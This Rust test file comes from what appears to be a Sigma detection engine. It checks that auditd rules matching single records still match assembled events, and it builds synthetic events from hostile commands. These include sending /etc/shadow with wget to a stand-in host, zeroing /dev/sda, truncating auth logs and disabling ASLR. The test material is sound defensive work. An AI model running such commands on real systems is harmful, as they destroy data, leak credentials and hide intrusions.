//! Rules for single records of the Linux audit daemon hold for events that were put together from them: SigmaHQ's, when a
//! copy is at hand (`PICKET_SHARED`, or `shared` beside the repository), and some of the same shapes made here.

#![allow(
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "a test helper fails by panicking and tells what it skips"
)]

mod parsed;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use sigma::{Rule, RuleSet, Scratch, parse_rules};

const SHAPES: [(&str, &str); 6] = [
    (
        "word of a command",
        "type: EXECVE\n    a0: curl\n    a2|startswith: 'http://198.51.100.'",
    ),
    (
        "file that is made",
        "type: PATH\n    nametype: CREATE\n    name|contains: 'update'",
    ),
    ("file that is read", "type: PATH\n    name: /etc/shadow"),
    ("who runs it", "type: SYSCALL\n    exe|endswith: /rm\n    key: delete"),
    ("register of a call", "type: SYSCALL\n    a1: '5581'"),
    ("module", "type: SYSCALL\n    comm: insmod\n    exe: /usr/bin/kmod"),
];

fn shape(title: &str, selection: &str) -> String {
    format!(
        "title: {title}\nlogsource:\n  product: linux\n  service: auditd\ndetection:\n  selection:\n    {selection}\n  condition: selection\nlevel: low\n"
    )
}

fn public_rules() -> Vec<(String, String)> {
    let root = std::env::var_os("PICKET_SHARED").map_or_else(
        || Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared"),
        PathBuf::from,
    );
    let archive = root.join("sigma/sigmahq-rules-8eaafff.tar.gz");
    if !archive.exists() {
        println!("skipped: {} is not there", archive.display());
        return Vec::new();
    }
    let target = Path::new(env!("CARGO_TARGET_TMPDIR")).join("sigmahq-auditd");
    std::fs::create_dir_all(&target).unwrap();
    let status = Command::new("tar")
        .arg("-xzf")
        .arg(archive)
        .arg("-C")
        .arg(&target)
        .status()
        .unwrap();
    assert!(status.success());
    let mut pending = vec![target.join("rules/linux/auditd")];
    let mut files = Vec::new();
    while let Some(folder) = pending.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                pending.push(path);
            } else {
                files.push((path.display().to_string(), std::fs::read_to_string(&path).unwrap()));
            }
        }
    }
    assert!(files.len() > 40);
    files
}

fn titles(set: &RuleSet, text: &str) -> BTreeSet<String> {
    let (mut scratch, mut hits) = (Scratch::new(), Vec::new());
    set.evaluate(
        &parsed::event(text, "/var/log/audit/audit.log"),
        &mut scratch,
        &mut hits,
    );
    hits.iter().map(|hit| set.rules()[*hit].title.clone()).collect()
}

/// Events as their lines: those of the parsers' tests, and for each command here one that runs it.
fn events() -> Vec<String> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../parsers/tests/lines/auditd_events.txt");
    let text = std::fs::read_to_string(path).unwrap();
    let mut events: Vec<String> = text.split("\n\n").map(|event| event.trim().to_owned()).collect();
    let commands = [
        "whoami",
        "chmod 777 /tmp/x",
        "chattr -i /etc/passwd",
        "wget --post-file=/etc/shadow http://x",
        "cat /root/.bash_history",
        "iptables -A DROP",
        "dd if=/dev/zero of=/dev/sda",
        "getcap -r /",
        "systemctl start evil",
        "shutdown now",
        "xwd -root -out a.xwd",
        "touch -t 2001 x",
        "unzip photo.jpg",
        "grep password /etc/x",
        "uname -a",
        "steghide embed -cf a -ef b",
        "mkdir .hidden",
        "sysctl -w kernel.randomize_va_space=0",
        "tar -czf a.tgz b",
        "truncate -s 0 /var/log/auth.log",
    ];
    for (serial, command) in (9000..).zip(commands) {
        let at = format!("msg=audit(1764000100.500:{serial}):");
        let words: Vec<&str> = command.split(' ').collect();
        let args: Vec<String> = words
            .iter()
            .enumerate()
            .map(|(n, word)| format!("a{n}=\"{word}\""))
            .collect();
        events.push(
            [
                format!("type=SYSCALL {at} arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=1 pid=2 auid=1000 uid=0 comm=\"{0}\" exe=\"/usr/bin/{0}\" key=\"exec\"", words[0]),
                format!("type=EXECVE {at} argc={} {}", words.len(), args.join(" ")),
                format!("type=CWD {at} cwd=\"/root\""),
                format!("type=PATH {at} item=0 name=\"/usr/bin/{}\" inode=1 nametype=NORMAL", words[0]),
                format!("type=PATH {at} item=1 name=\"{}\" inode=2 nametype=NORMAL", words.last().unwrap()),
                format!("type=PROCTITLE {at} proctitle=\"{}\"", words[0]),
            ]
            .join("\n"),
        );
    }
    events
}

#[test]
fn rules_for_records_hold_for_the_event_they_are_of() {
    let own = SHAPES
        .iter()
        .map(|(title, selection)| (format!("{title}.yml"), shape(title, selection)));
    let rules: Vec<Rule> = own
        .chain(public_rules())
        .flat_map(|(path, text)| parse_rules(&path, &text))
        .map(Result::unwrap)
        .collect();
    let public = rules.len() > SHAPES.len();
    let (set, refused) = RuleSet::compile(rules);
    assert!(refused.is_empty());
    let mut seen = BTreeSet::new();
    for event in events() {
        let whole = titles(&set, &event);
        for line in event.lines() {
            let single = titles(&set, line);
            let lost: Vec<&String> = single.difference(&whole).collect();
            assert!(lost.is_empty(), "{lost:?} of\n{line}\nare not on\n{event}");
            seen.extend(single);
        }
    }
    for (title, _) in SHAPES {
        assert!(seen.contains(title), "{title}");
    }
    println!("{} rules hold: {seen:?}", seen.len());
    assert!(!public || seen.len() >= SHAPES.len() + 12, "{seen:?}");
}
